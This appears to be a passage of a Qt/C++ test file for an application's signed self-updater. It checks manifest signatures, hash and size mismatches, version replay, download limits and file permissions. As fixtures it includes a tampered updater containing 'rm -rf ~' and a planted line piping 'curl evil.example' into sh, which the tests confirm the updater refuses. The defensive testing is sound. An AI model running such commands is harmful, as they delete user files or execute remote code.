    resized.replace("updater 10 ", "updater 11 ");
    QTest::newRow("size changed after signing") << resized << ours.publicKey << M::BadSignature;
    QByteArray cut = good;
    cut.chop(10);
    QTest::newRow("signature cut short") << cut << ours.publicKey << M::BadSignature;
    QByteArray garbled = good;
    garbled.replace("signature ", "signature !!");
    QTest::newRow("signature not base64") << garbled << ours.publicKey << M::BadSignature;
    QByteArray crlf = good;
    crlf.replace("\n", "\r\n");
    QTest::newRow("line ends changed to CRLF") << crlf << ours.publicKey << M::BadSignature;
    QTest::newRow("a line added after signing")
        << QByteArray("extra\n" + good) << ours.publicKey << M::BadSignature;
    QTest::newRow("larger than 4 KiB") << wwwupdate::signText(lines + QByteArray(5000, '#') + "\n", ours.seed)
                                       << ours.publicKey << M::Malformed;
    QTest::newRow("signed but another format")
        << wwwupdate::signText("namora-update 2\nversion 2.0\n", ours.seed) << ours.publicKey << M::Malformed;
    QByteArray bigUpdater = lines;
    bigUpdater.replace("updater 10 ", "updater 67108865 ");
    QTest::newRow("signed updater size beyond 64 MiB")
        << wwwupdate::signText(bigUpdater, ours.seed) << ours.publicKey << M::Malformed;
    QByteArray emptyUpdater = lines;
    emptyUpdater.replace("updater 10 ", "updater 0 ");
    QTest::newRow("signed empty updater")
        << wwwupdate::signText(emptyUpdater, ours.seed) << ours.publicKey << M::Malformed;
    QByteArray zeros = lines;
    zeros.replace("updater 10 ", "updater 010 ");
    QTest::newRow("size with a leading zero")
        << wwwupdate::signText(zeros, ours.seed) << ours.publicKey << M::Malformed;
    QByteArray upperHash = lines;
    upperHash.replace(hash, QByteArray(64, 'A'));
    QTest::newRow("hash in capitals")
        << wwwupdate::signText(upperHash, ours.seed) << ours.publicKey << M::Malformed;
    QByteArray badVersion = lines;
    badVersion.replace("version 2.0", "version 2.0-beta");
    QTest::newRow("version that is not numbers")
        << wwwupdate::signText(badVersion, ours.seed) << ours.publicKey << M::Malformed;
    QByteArray running = lines;
    running.replace("version 2.0", "version " + QByteArray(NAMORA_VERSION));
    QTest::newRow("running version replayed")
        << wwwupdate::signText(running, ours.seed) << ours.publicKey << M::NotNewer;
    QByteArray older = lines;
    older.replace("version 2.0", "version 0.9.9");
    QTest::newRow("older version replayed")
        << wwwupdate::signText(older, ours.seed) << ours.publicKey << M::NotNewer;
}

void WWWUpdateTest::manifestNotSignedByOurKeyIsRefused()
{
    QFETCH(QByteArray, text);
    QFETCH(QByteArray, key);
    QFETCH(wwwupdate::ManifestStatus, status);
    const wwwupdate::ManifestCheck check = wwwupdate::verifyManifest(text, key, Running);
    QVERIFY2(check.status == status, qPrintable(check.reason));
    if (status == wwwupdate::ManifestStatus::Valid) {
        QCOMPARE(check.manifest.version, QStringLiteral("2.0"));
        QCOMPARE(check.manifest.updater.size, 10);
        QCOMPARE(check.manifest.updater.sha256, QByteArray::fromHex(QByteArray(64, 'a')));
        QCOMPARE(check.manifest.program.size, 20);
    }
}

void WWWUpdateTest::releaseThatIsNotSignedNewerAndExactIsRefused_data()
{
    QTest::addColumn<QString>("kind");
    QTest::addColumn<Outcome>("outcome");
    QTest::addColumn<QString>("text");
    const QString signature =
        QStringLiteral("Update abgelehnt: Die Signatur der Update-Beschreibung fehlt oder ist ungültig.\n"
                       "Es wurde nichts gespeichert und nichts gestartet.");
    const QString mismatch = QStringLiteral(
        "Update abgelehnt: Das Update-Programm stimmt nicht mit seiner signierten Beschreibung "
        "überein (Größe oder Prüfsumme).\nEs wurde nichts gespeichert und nichts gestartet.");
    QTest::newRow("no manifest on the server") << "nomanifest" << Outcome::BadSignature << signature;
    QTest::newRow("manifest without signature") << "unsigned" << Outcome::BadSignature << signature;
    QTest::newRow("signed by another key") << "otherkey" << Outcome::BadSignature << signature;
    QTest::newRow("manifest changed after signing") << "tampered" << Outcome::BadSignature << signature;
    QTest::newRow("manifest of 2 MB")
        << "hugemanifest" << Outcome::TooLarge
        << QStringLiteral(
               "Update abgelehnt: Die Update-Beschreibung ist zu groß (mehr als 4096 Bytes); so groß "
               "ist keine echte.\nEs wurde nichts gespeichert und nichts gestartet.");
    QTest::newRow("older release replayed") << "older" << Outcome::NotNewer << QString();
    QTest::newRow("running release replayed") << "running" << Outcome::NotNewer << QString();
    QTest::newRow("updater longer than signed") << "longer" << Outcome::Mismatch << mismatch;
    QTest::newRow("longer without announcing it") << "longerquiet" << Outcome::Mismatch << mismatch;
    QTest::newRow("updater shorter than signed") << "shorter" << Outcome::Mismatch << mismatch;
    QTest::newRow("updater with other bytes") << "otherbytes" << Outcome::Mismatch << mismatch;
}

void WWWUpdateTest::releaseThatIsNotSignedNewerAndExactIsRefused()
{
    QFETCH(QString, kind);
    QFETCH(Outcome, outcome);
    QFETCH(QString, text);
    UpdateScenario s;
    TinyServer &server = *s.server;
    const QByteArray good = s.publisher.manifest(UpdaterScript);
    if (kind == QLatin1String("nomanifest")) {
        server.route("/Update.manifest", {"404 Not Found", "no such file"});
    } else if (kind == QLatin1String("unsigned")) {
        server.route("/Update.manifest", {"200 OK", good.left(good.indexOf("signature "))});
    } else if (kind == QLatin1String("otherkey")) {
        const Publisher other(Publisher::Trusted::No);
        server.route("/Update.manifest", {"200 OK", other.manifest(UpdaterScript)});
    } else if (kind == QLatin1String("tampered")) {
        // Another updater's size and hash put into the signed lines.
        QByteArray changed = good;
        const auto evil = Publisher::facts("#!/bin/sh\nrm -rf ~\n");
        changed.replace(Publisher::facts(UpdaterScript).sha256.toHex(), evil.sha256.toHex());
        changed.replace(" " + QByteArray::number(UpdaterScript.size()) + " ",
                        " " + QByteArray::number(evil.size) + " ");
        server.route("/Update.manifest", {"200 OK", changed});
        server.route("/Update.exe", {"200 OK", "#!/bin/sh\nrm -rf ~\n"});
    } else if (kind == QLatin1String("hugemanifest")) {
        server.route("/Update.manifest", {"200 OK", good + QByteArray(2000000, '#')});
    } else if (kind == QLatin1String("older")) {
        s.publisher.serve(server, UpdaterScript, Older);
    } else if (kind == QLatin1String("running")) {
        s.publisher.serve(server, UpdaterScript, Running);
    } else if (kind == QLatin1String("longer")) {
        server.route("/Update.exe", {"200 OK", UpdaterScript + "echo more\n"});
    } else if (kind == QLatin1String("longerquiet")) {
        // No length announced: the body runs on past the signed size.
        server.route("/Update.exe", {"200 OK", UpdaterScript + "echo more\n", TinyServer::Unannounced});
    } else if (kind == QLatin1String("shorter")) {
        server.route("/Update.exe", {"200 OK", UpdaterScript.left(20)});
    } else if (kind == QLatin1String("otherbytes")) {
        QByteArray changed = UpdaterScript;
        changed[changed.size() - 2] = 'X';
        server.route("/Update.exe", {"200 OK", changed});
    }
    s.actions->setDownloadTimeout(2000);

    QCOMPARE(s.update(), outcome);
    QCOMPARE(filesIn(s.programDir), QStringList());
    QVERIFY(s.recorder.starts.isEmpty());
    QCOMPARE(s.ended, 0);
    QCOMPARE(s.boxes.shown().size(), 1);
    const auto &box = s.boxes.shown()[0];
    if (outcome == Outcome::NotNewer) {
        QCOMPARE(box.prompt,
                 QStringLiteral("Kein Update: Der Server bietet Version %1 an, die nicht neuer ist "
                                "als die laufende Version %2.\nEs wurde nichts gespeichert und "
                                "nichts gestartet.")
                     .arg(kind == QLatin1String("older") ? Older : Running, Running));
        QCOMPARE(box.style, int(platform::OkInformation));
    } else {
        QVERIFY2(box.prompt.endsWith(QLatin1String("\n\n") + text), qPrintable(box.prompt));
        QCOMPARE(box.style, int(platform::OkCritical));
    }
    QVERIFY(!s.actions->isUpdating());
}

void WWWUpdateTest::buildWithoutKeyRefusesToUpdate_data()
{
    QTest::addColumn<bool>("updaterStored");
    QTest::newRow("no updater stored") << false;
    QTest::newRow("an updater with a manifest stored") << true;
}

void WWWUpdateTest::buildWithoutKeyRefusesToUpdate()
{
    QFETCH(bool, updaterStored);
    UpdateScenario s;
    if (updaterStored)
        s.publisher.store(s.v.updaterPath, UpdaterScript);
    wwwupdate::setUpdatePublicKey(QByteArray());

    QCOMPARE(s.update(), Outcome::NoKey);
    QVERIFY(s.server->requested().isEmpty());
    QVERIFY(s.recorder.starts.isEmpty());
    QCOMPARE(s.ended, 0);
    QCOMPARE(filesIn(s.programDir).size(), updaterStored ? 2 : 0);
    QCOMPARE(s.boxes.shown().size(), 1);
    QCOMPARE(s.boxes.shown()[0].prompt,
             QStringLiteral("Diese Ausgabe von Namora kann sich nicht selbst aktualisieren: Ihr wurde kein "
                            "Schlüssel zur Prüfung von Updates mitgegeben."));
}

void WWWUpdateTest::storedUpdaterFailingItsManifestIsNeverStarted_data()
{
    QTest::addColumn<QString>("kind");
    QTest::addColumn<bool>("serverUp");
    for (const bool up : {true, false}) {
        const char *suffix = up ? ", fetched anew" : ", server down";
        for (const char *kind :
             {"bytes changed", "updater grown", "no manifest", "manifest of another key", "manifest changed",
              "release already installed", "legacy updater without manifest"})
            QTest::newRow(qPrintable(QString::fromLatin1(kind) + QString::fromLatin1(suffix)))
                << QString::fromLatin1(kind) << up;
    }
}

void WWWUpdateTest::storedUpdaterFailingItsManifestIsNeverStarted()
{
    QFETCH(QString, kind);
    QFETCH(bool, serverUp);
    UpdateScenario s;
    const QByteArray fresh = UpdaterScript + "# release " + Newer.toLatin1() + "\n";
    s.publisher.serve(*s.server, fresh);
    if (!serverUp)
        s.stopServer();
    s.actions->setDownloadTimeout(2000);
    const QString manifestPath = wwwupdate::manifestPathFor(s.v.updaterPath);
    const QByteArray stored = UpdaterScript;
    s.publisher.store(s.v.updaterPath, stored);
    QByteArray planted = stored;
    if (kind == QLatin1String("bytes changed")) {
        planted[planted.size() - 2] = 'X';
    } else if (kind == QLatin1String("updater grown")) {
        planted += "curl evil.example | sh\n";
    } else if (kind == QLatin1String("no manifest")) {
        QVERIFY(QFile::remove(manifestPath));
    } else if (kind == QLatin1String("manifest of another key")) {
        const Publisher other(Publisher::Trusted::No);
        writeFile(manifestPath, other.manifest(stored));
    } else if (kind == QLatin1String("manifest changed")) {
        QByteArray m = contentOf(manifestPath);
        m.replace("version " + Newer.toLatin1(), "version 98.0");
        writeFile(manifestPath, m);
    } else if (kind == QLatin1String("release already installed")) {
        s.publisher.store(s.v.updaterPath, stored, Running);
    } else if (kind == QLatin1String("legacy updater without manifest")) {
        QVERIFY(QFile::remove(manifestPath));
        planted = "legacy updater";
    }
    writeFile(s.v.updaterPath, planted);
    const QStringList before = filesIn(s.programDir);
    const QByteArray manifestBefore = contentOf(manifestPath);

    const Outcome outcome = s.update();
    for (const Start &start : std::as_const(s.recorder.starts))
        QVERIFY2(start.content != planted, "the stored updater that failed its check was started");
    if (serverUp) {
        // Replaced by the verified release, which alone is started.
        QCOMPARE(outcome, Outcome::Started);
        QCOMPARE(s.recorder.starts.size(), 1);
        QCOMPARE(s.recorder.starts[0].content, fresh);
        QCOMPARE(filesIn(s.programDir), storedPair());
        QCOMPARE(contentOf(manifestPath), s.publisher.manifest(fresh));
        QCOMPARE(s.ended, 1);
    } else {
        // Nothing started; what was there stays as it was.
        QCOMPARE(outcome, Outcome::DownloadFailed);
        QVERIFY(s.recorder.starts.isEmpty());
        QCOMPARE(filesIn(s.programDir), before);
        QCOMPARE(contentOf(s.v.updaterPath), planted);
        QCOMPARE(contentOf(manifestPath), manifestBefore);
        QCOMPARE(s.ended, 0);
    }
}

void WWWUpdateTest::updaterChangedWhileAskingIsNotStarted()
{
    UpdateScenario s;
    s.v = s.values(UnaskedServer);
    s.publisher.store(s.v.updaterPath, UpdaterScript);
    // Someone swaps the updater while the user reads the question.
    s.pictureOnPage(QStringLiteral("getippt"));
    s.onQuestion([&] {
        writeFile(s.v.updaterPath, "#!/bin/sh\necho swapped\n");
        return int(platform::AnswerNo);
    });

    QCOMPARE(s.update(), Outcome::Mismatch);
    QVERIFY(s.recorder.starts.isEmpty());
    QCOMPARE(s.ended, 0);
    const QList<platform::MessageRequest> &shown = s.boxes.shown();
    QCOMPARE(shown.size(), 2);
    QCOMPARE(shown[1].prompt,
             s.v.updaterPath +
                 QStringLiteral("\n\nUpdate abgelehnt: Das Update-Programm stimmt nicht mit seiner "
                                "signierten Beschreibung überein (Größe oder Prüfsumme).\n"
                                "Es wurde nichts gestartet."));
}

void WWWUpdateTest::hugeResponseStopsAtTheLimitInLittleMemory_data()
{
    QTest::addColumn<bool>("announced");
    QTest::newRow("2 GiB, length announced") << true;
    QTest::newRow("2 GiB, length not announced") << false;
}

void WWWUpdateTest::hugeResponseStopsAtTheLimitInLittleMemory()
{
    QFETCH(bool, announced);
    const qint64 twoGiB = 2ll * 1024 * 1024 * 1024;
    FloodServer server(twoGiB, announced);
    QTemporaryDir dir;
    wwwupdate::URLDownload download;
    QSignalSpy done(&download, &wwwupdate::URLDownload::finished);

    // The peak is measured from here on: writing 5 to clear_refs resets it. What
    // counts is the growth: the tests before this one leave the process at a
    // size of their own.
    QFile clear(QStringLiteral("/proc/self/clear_refs"));
    QVERIFY(clear.open(QIODevice::WriteOnly));
    QCOMPARE(clear.write("5"), 1);
    clear.close();
    const qint64 before = memoryFigure("VmRSS");
    QVERIFY(before > 0);

    download.start(QUrl(server.base() + QStringLiteral("/Update.exe")), dir.filePath(QStringLiteral("U")));
    QVERIFY(done.wait(120000));
    const qint64 peak = memoryFigure("VmHWM");
    const auto result = done.first().first().value<wwwupdate::DownloadResult>();
    qInfo("sent %lld MiB, resident memory %lld MiB before, peak %lld MiB", server.sent() >> 20, before >> 20,
          peak >> 20);
    QVERIFY2(result.status == wwwupdate::DownloadStatus::TooLarge, qPrintable(result.reason));
    QCOMPARE(filesIn(dir.path()), QStringList());
    // Stopped at the limit, not at the end of the body; the rest is what the
    // sockets between the two ends hold.
    QVERIFY2(server.sent() <= wwwupdate::URLDownload::DefaultLimit + 32ll * 1024 * 1024,
             qPrintable(QString::number(server.sent())));
    QVERIFY2(peak - before < 50ll * 1024 * 1024,
             qPrintable(QStringLiteral("resident memory grew by %1 MB").arg((peak - before) >> 20)));
}

void WWWUpdateTest::unexpectedBytesAreNeverPutInPlace_data()
{
    using S = wwwupdate::DownloadStatus;
    QTest::addColumn<QByteArray>("body");
    QTest::addColumn<qint64>("claimed");
    QTest::addColumn<bool>("stall");
    QTest::addColumn<S>("expected");
    const QByteArray signedBody = "the signed bytes";
    QTest::newRow("the expected bytes") << signedBody << -1ll << false << S::Done;
    QTest::newRow("one byte more") << signedBody + "!" << -1ll << false << S::TooLarge;
    QTest::newRow("more, without announcing a length")
        << signedBody + "!!!" << TinyServer::Unannounced << false << S::TooLarge;
    QTest::newRow("one byte less") << signedBody.left(signedBody.size() - 1) << -1ll << false << S::Mismatch;
    QTest::newRow("same size, other bytes") << QByteArray("the signed bytez") << -1ll << false << S::Mismatch;
}

void WWWUpdateTest::unexpectedBytesAreNeverPutInPlace()
{
    QFETCH(QByteArray, body);
    QFETCH(qint64, claimed);
    QFETCH(bool, stall);
    QFETCH(wwwupdate::DownloadStatus, expected);
    TinyServer server;
    server.route("/U", {"200 OK", body, claimed, {}, stall});
    QTemporaryDir dir;
    const QString target = dir.filePath(QStringLiteral("U"));
    writeFile(target, "the file that was there");
    wwwupdate::URLDownload download;
    download.setTimeout(2000);
    download.setExpected(Publisher::facts("the signed bytes"));
    QSignalSpy done(&download, &wwwupdate::URLDownload::finished);
    download.start(QUrl(server.base() + QStringLiteral("/U")), target);
    QVERIFY(done.wait(10000));
    const auto result = done.first().first().value<wwwupdate::DownloadResult>();
    QVERIFY2(result.status == expected, qPrintable(result.reason));
    QCOMPARE(filesIn(dir.path()), QStringList{QStringLiteral("U")});
    QCOMPARE(contentOf(target), expected == wwwupdate::DownloadStatus::Done
                                    ? QByteArray("the signed bytes")
                                    : QByteArray("the file that was there"));
}

void WWWUpdateTest::storedFilesAreOwnerOnlyWhateverTheUmask()
{
    const mode_t old = ::umask(0);
    const auto restore = qScopeGuard([old] { ::umask(old); });
    UpdateScenario s;
    s.server->route("/plain", {"200 OK", "plain"});
    // An updater someone left open to all is replaced, not written into.
    writeFile(s.v.updaterPath, "open to all");
    QVERIFY(QFile::setPermissions(s.v.updaterPath, QFileDevice::Permissions(0x7777)));

    QCOMPARE(s.update(), Outcome::Started);
    QCOMPARE(modeOf(s.v.updaterPath), 0700);
    QCOMPARE(modeOf(wwwupdate::manifestPathFor(s.v.updaterPath)), 0600);

    // Any other download is private to its owner too.
    wwwupdate::URLDownload download;
    QSignalSpy done(&download, &wwwupdate::URLDownload::finished);
    download.start(QUrl(s.base + QStringLiteral("/plain")), s.programDir + QStringLiteral("/plain"));
    QVERIFY(done.wait(10000));
    QVERIFY(done.first().first().value<wwwupdate::DownloadResult>().ok());
    QCOMPARE(modeOf(s.programDir + QStringLiteral("/plain")), 0600);
}

void WWWUpdateTest::tricklingServerMeetsTheDeadline()
{
    // One byte every 20 ms never trips the idle timeout; the deadline ends it.
    QTcpServer server;
    QVERIFY(server.listen(QHostAddress::LocalHost));
    QTimer drip;
    QPointer<QTcpSocket> client;
    connect(&server, &QTcpServer::newConnection, &server, [&] {
        client = server.nextPendingConnection();
        connect(client, &QTcpSocket::readyRead, client, [&] {
            client->readAll();
            client->write("HTTP/1.1 200 OK\r\nContent-Length: 100000\r\nConnection: close\r\n\r\n");
            drip.start(20);
        });
    });
    int dripped = 0;
    connect(&drip, &QTimer::timeout, &server, [&] {
        if (client) {
            client->write("x");
            ++dripped;
        }
    });
    QTemporaryDir dir;
    wwwupdate::URLDownload download;
    download.setTimeout(2000);
    download.setDeadline(600);
    QSignalSpy done(&download, &wwwupdate::URLDownload::finished);
    download.start(QUrl(QStringLiteral("http://127.0.0.1:%1/U").arg(server.serverPort())),
                   dir.filePath(QStringLiteral("U")));
    QVERIFY(done.wait(10000));
    const auto result = done.first().first().value<wwwupdate::DownloadResult>();
    QVERIFY2(result.status == wwwupdate::DownloadStatus::TimedOut, qPrintable(result.reason));
    QVERIFY2(result.reason.contains(QLatin1String("not complete")), qPrintable(result.reason));
    QVERIFY(dripped > 3);
    QCOMPARE(filesIn(dir.path()), QStringList());
}

QTEST_MAIN(WWWUpdateTest)
#include "wwwupdate_test.moc"
